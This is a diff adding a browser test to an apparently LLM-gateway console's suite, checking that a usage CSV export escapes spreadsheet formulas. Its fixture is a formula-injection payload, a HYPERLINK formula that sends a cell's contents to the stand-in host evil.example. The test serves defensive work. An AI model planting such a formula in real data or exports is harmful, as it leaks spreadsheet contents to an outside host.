@@ -226,6 +226,23 @@ def test_usage_page_charts_and_exports_csv(page: Page, gw: Gateway, shots: Path)
     assert rows[0].startswith("key,day,requests") and len(rows) >= 2
 
 
+def test_usage_csv_never_carries_a_formula(page: Page, gw: Gateway, admin_key: str) -> None:
+    """An owner is any printable text: exported, it must read as text, never run as a spreadsheet formula."""
+    owner = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    _, key = make_key(gw, admin_key, owner)
+    status, _, _ = call(gw.url + "/v2/models/deepseek/generate", "POST", {"text_input": "Hi", "max_tokens": 2}, key)
+    assert status == 200
+    page.goto(gw.url + "/console/usage")
+    page.get_by_label("Group by").select_option("owner")
+    page.get_by_role("button", name="Show").click()
+    expect(page.locator("table tbody")).to_contain_text(owner)   # shown as it is on the page
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Export CSV").click()
+    cells = [row.split(",", 1)[0] for row in Path(download.value.path()).read_text().splitlines()[1:]]
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1' in "\n".join(cells), cells
+    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), cells
+
+
 def test_policy_evaluation_names_the_deciding_rule(page: Page, gw: Gateway, shots: Path) -> None:
     page.goto(gw.url + "/console/policies")
     expect(page.get_by_text("deny-triton-admin").first).to_be_visible()
